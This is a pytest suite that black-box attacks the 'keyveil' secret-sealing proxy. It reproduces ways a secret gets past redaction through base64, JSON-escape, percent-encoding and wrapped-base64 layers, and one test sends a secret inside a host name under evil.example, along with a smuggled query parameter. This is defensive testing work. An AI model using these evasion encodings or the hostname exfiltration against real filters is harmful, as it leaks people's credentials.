"""Black-box attack on keyveil's sealer, written from SPEC §1-§3, §3a, §6, §7 only.

Each ``test_finding_*`` reproduces one way a value got past keyveil (or a carrier
stopped decoding) and asserts what the SPEC requires, so it fails while keyveil is
wrong. The ``test_holds_*`` tests are attacks that did not get through; they guard
against regressions. Values are generated per run from random pieces.
"""

from __future__ import annotations

import base64
import gzip
import json
import secrets
import socket
import ssl
import string
import time
import urllib.parse

import httpx
import pytest

from keyveil._engine import Sealer
from tests import infra
from tests.infra import wsclient
from tests.conftest import keyveil, keyveil_proxy, make_home

pytestmark = pytest.mark.timeout(120)

NAME = "github/pat"
REF = "{{secret:github/pat}}"


def token(prefix: str = "tok_", n: int = 28) -> str:
    """A fake value made only of base64-alphabet characters (as most API tokens are)."""
    alphabet = string.ascii_letters + string.digits
    return prefix + "".join(secrets.choice(alphabet) for _ in range(n))


def sealer(value: str) -> Sealer:
    return Sealer({NAME: [value.encode()]})


def stream_all(s: Sealer, data: bytes, cut: int | None = None) -> bytes:
    st = s.stream()
    if cut is None:
        return st.feed(data, final=True)
    return st.feed(data[:cut]) + st.feed(data[cut:], final=True)


def flat(data: bytes) -> bytes:
    return data.replace(b"\r", b"").replace(b"\n", b"")


def b64_holds(carrier: bytes, value: str) -> bool:
    """Does any base64 run of CARRIER (line breaks ignored, any alphabet, any
    alignment) decode to bytes holding VALUE?"""
    import re

    for m in re.finditer(rb"[A-Za-z0-9+/_-]{8,}", flat(carrier)):
        run = m.group().replace(b"-", b"+").replace(b"_", b"/")
        for off in range(4):
            r = run[off:]
            r = r[: len(r) // 4 * 4]
            try:
                if value.encode() in base64.b64decode(r):
                    return True
            except ValueError:
                pass
    return False


# ============================================================================ in-process findings
#
# F1. A value on its own line, after a line that ends in a word and before a
# line holding its base64, is not sealed: the three lines are taken for one
# wrapped base64 block whose "line width" is the length of that word, the raw
# value is never matched, and the block is written back wrapped at that width,
# so the raw value comes out with a line break every few characters.


def _f1_text(v: str) -> bytes:
    return ("Your token is\n" + v + "\n" + base64.b64encode(v.encode()).decode() + "\n").encode()


def test_finding_raw_value_between_a_word_line_and_its_base64_is_sealed():
    v = token()
    s = sealer(v)
    out = s.seal(_f1_text(v)).data
    assert v.encode() not in flat(out), out  # today: b"Your token is\nto\nk_\n..." (the value, 2 chars a line)
    assert out == ("Your token is\n" + REF + "\n" + base64.b64encode(REF.encode()).decode() + "\n").encode()


def test_finding_raw_value_between_a_word_line_and_its_base64_is_scrubbed():
    v = token()
    s = sealer(v)
    for out in (s.scrub(_f1_text(v)).data, stream_all(s, _f1_text(v))):
        assert v.encode() not in flat(out), out


def test_finding_raw_value_between_a_word_line_and_basic_credentials_is_sealed():
    # "token\nVALUE\nbase64(user:VALUE)": the base64 line is left unsealed too.
    v = token()
    s = sealer(v)
    text = ("token\n" + v + "\n" + base64.b64encode(("user:" + v).encode()).decode()).encode()
    out = s.seal(text).data
    assert v.encode() not in flat(out), out
    assert not b64_holds(out, v), out


# F2. Two layers - base64 of a JSON document holding the value JSON-escaped,
# or base64 of a query string holding it percent-encoded (SPEC §3 lists both) -
# are missed when a line of base64-alphabet characters (any word of 4+ letters,
# "data", "Output", "abcd") is directly before or after the base64 block.


@pytest.mark.parametrize("before,after", [("data\n", ""), ("hello world\n", ""), ("abcdefgh\n", "\nabcdefgh"), ("x ", "\nword")])
def test_finding_base64_of_json_escaped_value_next_to_a_word_line_is_sealed(before, after):
    v = token()
    s = sealer(v)
    doc = '{"password": "' + v[:3] + "\\u%04x" % ord(v[3]) + v[4:] + '"}'
    doc += " " * (-len(doc) % 3)  # no "=" padding, so the base64 run does not end by itself
    text = (before + base64.b64encode(doc.encode()).decode() + after).encode()
    out = s.seal(text).data
    assert out != text, "forwarded unchanged: base64(JSON-escaped value) not recognised"
    body = out[len(before) : len(out) - len(after)]
    assert json.loads(base64.b64decode(body)) == {"password": REF}


def test_finding_base64_of_php_json_next_to_a_word_line_is_sealed():
    # PHP's json_encode writes "/" as "\/"; AWS-style secrets hold "/".
    v = token("tok/")
    s = sealer(v)
    doc = json.dumps({"auths": {"registry": {"password": v}}}).replace("/", "\\/")
    text = ("secret\n" + base64.b64encode(doc.encode()).decode()).encode()
    out = s.seal(text).data
    assert out != text, "forwarded unchanged: base64 of a JSON document holding the value with \\/"
    assert json.loads(base64.b64decode(out[len("secret\n") :]))["auths"]["registry"]["password"] == REF


def test_finding_base64_of_percent_encoded_value_next_to_a_word_line_is_sealed():
    v = token()
    s = sealer(v)
    inner = "q=" + v[:3] + "%%%02X" % ord(v[3]) + v[4:]
    text = ("word\n" + base64.b64encode(inner.encode()).decode()).encode()
    out = s.seal(text).data
    assert out != text, "forwarded unchanged: base64(percent-encoded value) not recognised"
    assert urllib.parse.unquote(base64.b64decode(out[len("word\n") :]).decode()) == "q=" + REF


# F3. MIME/PEM-wrapped base64 inside a JSON string, its line breaks written
# "\n" as every JSON encoder writes them (GitHub's contents API, a PEM in a
# JSON config): a value whose base64 straddles a line break is not recognised.
# Two layers of SPEC §3 (JSON string + wrapped base64), request and response.


@pytest.mark.parametrize("width,offset", [(76, 40), (64, 30), (60, 30)])
def test_finding_wrapped_base64_in_a_json_string_is_sealed(width, offset):
    v = token()
    s = sealer(v)
    plain = ("x" * offset + v).encode()
    e = base64.b64encode(plain).decode()
    wrapped = "\n".join(e[i : i + width] for i in range(0, len(e), width)) + "\n"
    body = json.dumps({"content": wrapped, "encoding": "base64"}).encode()
    for out in (s.seal(body).data, s.scrub(body).data, stream_all(s, body)):
        assert out != body, "wrapped base64 in a JSON string passed unchanged"
        content = json.loads(out)["content"]
        assert base64.b64decode(content) == ("x" * offset + REF).encode()


# F5. A base64 block right after a line of base64-alphabet characters ("hello
# world\n", "abcd\n") is written back wrapped at that line's width: one-line
# base64 comes out as lines of 4 or 5 characters. SPEC §3: same line width,
# only the value's own span changes; a strict decoder rejects the result.


@pytest.mark.parametrize("before", ["hello world\n", "abcd\n", "x\n"])
def test_finding_one_line_base64_after_a_word_line_stays_one_line(before):
    v = token()
    s = sealer(v)
    text = (before + base64.b64encode((v + "y" * 30).encode()).decode()).encode()
    out = s.seal(text).data
    assert v.encode() not in out
    assert out == (before + base64.b64encode((REF + "y" * 30).encode()).decode()).encode(), out


# F6. Percent-encoded base64 whose run starts after a decoded non-base64
# character ("x%20" = "x ") and has one escaped character after the value: the
# run is cut at the escape, re-encoded with padding in the middle, and the
# carrier no longer decodes (SPEC §3: percent-encoded base64 is two layers).


def test_finding_percent_encoded_base64_with_an_escape_after_the_value_still_decodes():
    v = token()
    s = sealer(v)
    e = base64.b64encode((v + "y" * 30).encode()).decode()
    i = 50  # a character of the "y" tail, after the value's span
    q = "q=x%20" + e[:i] + "%%%02X" % ord(e[i]) + e[i + 1 :]
    out = s.seal(q.encode()).data.decode()
    assert v not in out
    (got,) = urllib.parse.parse_qs(out)["q"]
    assert got.startswith("x ")
    assert base64.b64decode(got[2:], validate=True) == (REF + "y" * 30).encode()


# ============================================================================ in-process: what held


def _json_escape_all(v: str, upper: bool) -> str:
    out = []
    for ch in v:
        cp = ord(ch)
        fmt = "\\u%04X" if upper else "\\u%04x"
        if cp > 0xFFFF:
            cp -= 0x10000
            out.append(fmt % (0xD800 + (cp >> 10)) + fmt % (0xDC00 + (cp & 0x3FF)))
        else:
            out.append(fmt % cp)
    return "".join(out)


ODD_VALUES = [
    lambda: token(),
    lambda: "pa ss+wo%rd/" + secrets.token_hex(6) + '"q\\b',
    lambda: "ünï-" + secrets.token_hex(6) + "-ß",
    lambda: "astral-\U0001f600-" + secrets.token_hex(6),
    lambda: "nl\n" + secrets.token_hex(6) + "\r\t",
    lambda: "+/=+/=" + secrets.token_hex(4),
]


@pytest.mark.parametrize("make", ODD_VALUES)
def test_holds_json_escapes_of_odd_values(make):
    v = make()
    s = sealer(v)
    for upper in (False, True):
        body = ('{"a": "pre ' + _json_escape_all(v, upper) + ' post"}').encode()
        assert json.loads(s.seal(body).data) == {"a": "pre " + REF + " post"}
    body = json.dumps({"a": json.dumps({"b": v})}).encode()  # a JSON string inside a JSON string
    assert json.loads(json.loads(s.seal(body).data)["a"]) == {"b": REF}


@pytest.mark.parametrize("make", ODD_VALUES)
def test_holds_percent_forms_of_odd_values(make):
    v = make()
    s = sealer(v)
    full = "".join("%%%02x" % b for b in v.encode())  # every byte escaped, lower case
    plus = urllib.parse.quote_plus(v)
    double = urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")
    for q, dec in ((full, urllib.parse.unquote), (plus, urllib.parse.unquote_plus)):
        out = s.seal(("a=1&q=" + q + "&z=2").encode()).data.decode()
        assert dec(out) == "a=1&q=" + REF + "&z=2"
    out = s.seal(("q=" + double).encode()).data.decode()
    assert urllib.parse.unquote(urllib.parse.unquote(out)) == "q=" + REF


@pytest.mark.parametrize("make", ODD_VALUES)
@pytest.mark.parametrize("urlsafe", [False, True])
@pytest.mark.parametrize("width,nl", [(None, ""), (64, "\n"), (76, "\r\n")])
def test_holds_base64_at_every_offset(make, urlsafe, width, nl):
    v = make()
    s = sealer(v)
    enc = base64.urlsafe_b64encode if urlsafe else base64.b64encode
    for pre in ("", "u", "us", "user:", "x" * 47):
        e = enc((pre + v + "zz").encode()).decode()
        if width:
            e = nl.join(e[i : i + width] for i in range(0, len(e), width))
        out = s.seal(('data: "' + e + '"').encode()).data.decode()
        run = out[len('data: "') : -1].replace("\r", "").replace("\n", "").replace("-", "+").replace("_", "/")
        assert base64.b64decode(run + "=" * (-len(run) % 4)) == (pre + REF + "zz").encode()


def test_holds_two_layer_forms_without_neighbouring_words():
    v = token("tok/")
    s = sealer(v)
    p = urllib.parse.quote(v, safe="")
    cases = {
        "base64 of JSON, \\/": base64.b64encode(json.dumps({"a": v}).replace("/", "\\/").encode()).decode(),
        "percent base64": "q=" + urllib.parse.quote(base64.b64encode(v.encode()).decode(), safe=""),
        "base64 in JSON, \\/": json.dumps({"a": base64.b64encode(v.encode()).decode()}).replace("/", "\\/"),
        "JSON in percent": "q=" + urllib.parse.quote(json.dumps({"b": v}), safe=""),
        "percent in JSON": json.dumps({"url": "https://x/?q=" + p}),
        "base64 of base64": base64.b64encode(base64.b64encode(v.encode())).decode(),
        "base64 of percent": base64.b64encode(("q=" + p).encode()).decode(),
        "Basic in JSON": json.dumps({"h": "Basic " + base64.b64encode(("u:" + v).encode()).decode()}),
    }
    for name, body in cases.items():
        out = s.seal(body.encode()).data
        assert out != body.encode(), name
        assert v.encode() not in out and not b64_holds(out, v), name


def test_holds_several_values_same_value_twice_and_overlaps():
    a, b = token("aaa_"), token("bbb_")
    overlap = a[-10:] + token("ccc_")  # starts with the end of A
    s = Sealer({"x/a": [a.encode()], "x/b": [b.encode()], "x/c": [overlap.encode()]})
    text = f"{a} {b} {a}{b} {a[:-10]}{overlap} " + base64.b64encode((a + b).encode()).decode()
    out = s.seal(text.encode()).data
    for v in (a, b, overlap):
        assert v.encode() not in out and not b64_holds(out, v)
    assert out.count(b"{{secret:x/a}}") >= 3 and out.count(b"{{secret:x/b}}") >= 2


def test_holds_stream_split_at_every_position():
    v = "pa ss/" + token()
    s = sealer(v)
    carriers = [
        ('data: {"d": "' + _json_escape_all(v, True) + '"}\n\n').encode(),
        ("data: " + base64.b64encode(("user:" + v).encode()).decode() + "\n\n").encode(),
        ("q=" + urllib.parse.quote(base64.b64encode(v.encode()).decode(), safe="") + "&x=1").encode(),
    ]
    for data in carriers:
        whole = s.scrub(data).data
        assert v.encode() not in whole
        for cut in range(len(data) + 1):
            assert stream_all(s, data, cut) == whole, cut
        st = s.stream()
        assert b"".join(st.feed(data[i : i + 1]) for i in range(len(data))) + st.feed(b"", final=True) == whole


def test_holds_malformed_escapes_do_not_raise():
    v = token()
    s = Sealer({NAME: [v.encode()], "x/bin": [b"\xff\xfe\x00bin" + secrets.token_bytes(6)]})
    pieces = [b"\\u", b"\\ud800", b"\\udc00", b"\\u00", b"%", b"%G", b"%2", b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00",
              b"{{secret:", b"}}", b"==", b"\\", b'"', b"\r\n", v.encode()[:9], base64.b64encode(v.encode())[:17]]
    rng = secrets.SystemRandom()
    for _ in range(300):
        data = b"".join(rng.choice(pieces) for _ in range(rng.randrange(1, 25))) + v.encode()
        assert v.encode() not in s.seal(data).data
        assert v.encode() not in stream_all(s, data, rng.randrange(len(data) + 1))


# ============================================================================ through a real proxy

RULES = """\
version: 1
providers:
  builtin: true
secrets:
  github/pat:
    hosts: [api.github.com]
    inject: [{header: Authorization}, {basic_auth: true}]
  gitlab/token:
    hosts: [gitlab.test.keyveil]
    inject: [{query: private_token}, {body: true}]
  atk/hex:
    hosts: [api.github.com]
    inject: [{header: x-hex}]
policy:
  max_body_bytes: {max_body}
"""


@pytest.fixture(scope="module")
def kv(tmp_path_factory):
    setup = make_home(tmp_path_factory.mktemp("attack"), rules=RULES)
    # A value that can be a DNS label (lower-case letters and digits).
    hx = "hx" + secrets.token_hex(12)
    r = keyveil(setup.env, "secret", "set", "atk/hex", stdin=hx.encode() + b"\n")
    assert r.returncode == 0, r.stderr
    setup.values["atk/hex"] = hx.encode()
    return setup


@pytest.fixture(scope="module")
def proxy(kv, upstream, tmp_path_factory):
    work = tmp_path_factory.mktemp("attack-proxy")
    with keyveil_proxy(upstream, work, kv, flowfile=work / "flows.mitm", flow_detail=2) as p:
        yield p


def client(proxy) -> httpx.Client:
    return httpx.Client(proxy=proxy.url, verify=infra.client_ssl_context(proxy.ca_cert), trust_env=False, timeout=30)


def pat(kv) -> str:
    return kv.values["github/pat"].decode()


def received(up) -> bytes:
    """Everything the upstream got, request targets, headers and bodies, line breaks removed."""
    parts = []
    for rec in up.requests:
        parts += [rec.path.encode("latin-1"), *(k + b": " + v for k, v in rec.headers), rec.body]
    return flat(b"\n".join(parts) + up.all_bytes())


def test_finding_word_line_value_base64_reaches_a_provider(proxy, up, kv):
    """F1 end to end: a plain-text body toward api.openai.com."""
    v = pat(kv)
    body = ("Your token is\n" + v + "\n" + base64.b64encode(v.encode()).decode() + "\n").encode()
    with client(proxy) as c:
        r = c.post("https://api.openai.com/v1/files", content=body, headers={"content-type": "text/plain"})
    assert r.status_code == 200
    leaked = v.encode() in received(up)  # today the upstream gets "Your token is\ngh\np_\n..."
    assert not leaked, "the value reached api.openai.com, a line break every two characters"


def test_finding_word_line_value_base64_in_a_websocket_message_to_a_provider(proxy, up, kv):

    v = pat(kv)
    msg = "Your token is\n" + v + "\n" + base64.b64encode(v.encode()).decode()
    ctx = infra.client_ssl_context(proxy.ca_cert)
    with wsclient.connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
        ws.send(msg)
        ws.recv(timeout=15)
    (got,) = [m.data for m in up.ws_messages if m.direction == "client"]
    leaked = v in got.replace("\n", "")
    assert not leaked, "the value reached api.openai.com in a WebSocket message, a line break every two characters"


def test_finding_wrapped_base64_in_a_json_response_reaches_the_client(proxy, up, kv):
    """F3 end to end (I3): a contents-API style response, base64 wrapped at 60 inside a JSON string."""
    v = pat(kv)
    e = base64.b64encode(("x" * 30 + v).encode()).decode()
    doc = json.dumps({"content": "\n".join(e[i : i + 60] for i in range(0, len(e), 60)) + "\n", "encoding": "base64"})
    up.set_response("/contents", 200, {"content-type": "application/json"}, [doc.encode()])
    with client(proxy) as c:
        r = c.get("https://api.github.com/contents")
    assert r.status_code == 200
    leaked = v.encode() in base64.b64decode(r.json()["content"])
    assert not leaked, "the value came back to the client inside the wrapped base64"


def test_finding_value_in_the_host_name_is_not_echoed(proxy, up, kv):
    """F4: the request is blocked (I2 holds), but the block message, the console and
    the audit log repeat the host, value included (SPEC §6: TEXT never holds a value;
    §8: a host that held a value is written sealed; I5)."""
    hx = kv.values["atk/hex"].decode()
    # keyveil refuses the CONNECT itself (no TLS, no DNS toward that name): httpx
    # reports the 403 as a ProxyError; a client that shows the body would see the block.
    with client(proxy) as c:
        try:
            r = c.get(f"https://{hx}.evil.example/x")
            assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "plaintext_egress")
            text = r.text
        except httpx.ProxyError as e:
            assert "403" in str(e)
            text = str(e)
    assert up.requests == []
    deadline = time.monotonic() + 5
    while True:  # the audit line is written when the flow ends, just after the response
        audit = b"".join(p.read_bytes() for p in (kv.home / "audit").glob("*"))
        if b"plaintext_egress" in audit or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert b"plaintext_egress" in audit
    where = [n for n, hit in [("block message", hx in text), ("audit log", hx.encode() in audit), ("console", hx in proxy.output())] if hit]
    assert where == [], "the value is repeated in: " + ", ".join(where)


def test_finding_x_gzip_body_is_not_an_internal_error(proxy, up, kv):
    """x-gzip is gzip (RFC 9110 §8.4.1.3): decode it, or refuse it as undecodable_body;
    today it ends in internal_error, a hook exception."""
    v = pat(kv)
    with client(proxy) as c:
        r = c.post("https://api.openai.com/v1/x", content=gzip.compress(b'{"a": "' + v.encode() + b'"}'),
                   headers={"content-encoding": "x-gzip", "content-type": "application/json"})
    assert v.encode() not in received(up)
    assert r.headers.get("x-keyveil-block") in (None, "undecodable_body")


# ---------------------------------------------------------------------------- proxy: what held


def test_holds_value_as_a_header_name_toward_a_provider(proxy, up, kv):
    v = pat(kv)
    with client(proxy) as c:
        r = c.get("https://api.openai.com/v1/x", headers={"x-" + v: "1", "x-b": "Bearer " + v})
    assert r.status_code == 200
    assert v.encode() not in received(up) and v.lower().encode() not in received(up).lower()


@pytest.mark.parametrize("ce", ["GZIP", "deflate-raw", "gzip-members", "zstd-frames", "br"])
def test_holds_content_encodings(proxy, up, kv, ce):
    import zlib

    import brotli

    try:
        from compression import zstd  # type: ignore[import-not-found]
    except ImportError:
        from backports import zstd

    v = pat(kv).encode()
    body = b'{"messages": [{"content": "key ' + v + b'"}]}'
    if ce == "GZIP":
        data = gzip.compress(body)
    elif ce == "deflate-raw":
        co = zlib.compressobj(wbits=-15)
        data, ce = co.compress(body) + co.flush(), "deflate"
    elif ce == "gzip-members":
        data, ce = gzip.compress(body[:20]) + gzip.compress(body[20:]), "gzip"
    elif ce == "zstd-frames":
        data, ce = zstd.compress(body[:20]) + zstd.compress(body[20:]), "zstd"
    else:
        data = brotli.compress(body)
    with client(proxy) as c:
        r = c.post("https://api.openai.com/v1/x", content=data, headers={"content-encoding": ce, "content-type": "application/json"})
    assert r.status_code in (200, 502)
    if r.status_code == 502:
        assert r.headers["x-keyveil-block"] == "undecodable_body"
    for rec in up.requests:
        assert v not in rec.body
        for dec in (gzip.decompress, lambda b: zlib.decompress(b, -15), brotli.decompress, zstd.decompress):
            try:
                assert v not in dec(rec.body)
            except (OSError, EOFError, zlib.error, brotli.error, zstd.ZstdError):
                pass


def test_holds_request_trailers_never_reach_the_upstream(proxy, up, kv):
    """mitmproxy cannot handle HTTP/1 request trailers; a value there must not pass."""
    v = pat(kv).encode()
    raw = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
    raw.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n")
    assert raw.recv(4096).startswith(b"HTTP/1.1 200")
    tls = infra.client_ssl_context(proxy.ca_cert).wrap_socket(raw, server_hostname="api.openai.com")
    tls.sendall(b"POST /v1/x HTTP/1.1\r\nHost: api.openai.com\r\nTransfer-Encoding: chunked\r\nTrailer: x-t\r\n\r\n"
                b"5\r\nhello\r\n0\r\nx-t: " + v + b"\r\n\r\n")
    tls.settimeout(2)
    try:
        tls.recv(65536)
    except (TimeoutError, ssl.SSLError, OSError):
        pass
    tls.close()
    assert v not in received(up)


def test_holds_query_injection_stays_in_its_parameter(proxy, up, kv):
    """I2: a reference inside another parameter's encoded value is not injected."""
    gl = kv.values["gitlab/token"]
    smuggled = "x=a%26private_token%3D%7B%7Bsecret:gitlab%2Ftoken%7D%7D"
    with client(proxy) as c:
        r = c.get("https://gitlab.test.keyveil/api?" + smuggled)
    assert r.status_code == 200
    (rec,) = up.requests
    assert rec.path == "/api?" + smuggled
    assert gl not in urllib.parse.unquote_to_bytes(rec.path)


def test_holds_unbound_reference_in_a_cookie(proxy, up, kv):
    with client(proxy) as c:
        r = c.get("https://gitlab.test.keyveil/api", headers={"cookie": "a={{secret:github/pat}}"})
    assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert up.requests == []


def test_holds_websocket_forms_toward_a_provider(proxy, up, kv):

    v = pat(kv)
    msgs = [
        '{"input": "t ' + v[:5] + "\\u%04X" % ord(v[5]) + v[6:] + '"}',
        "b64 " + base64.b64encode(("u:" + v).encode()).decode(),
        ("bin " + v).encode(),
    ]
    ctx = infra.client_ssl_context(proxy.ca_cert)
    with wsclient.connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
        for m in msgs:
            ws.send(m)
            ws.recv(timeout=15)
    got = [m.data if isinstance(m.data, bytes) else m.data.encode() for m in up.ws_messages if m.direction == "client"]
    assert len(got) == 3
    for d in got:
        assert v.encode() not in d and not b64_holds(d, v)
        assert b"{{secret:github/pat}}" in d or b"e3tz" in d or b"dTp7e3" in d
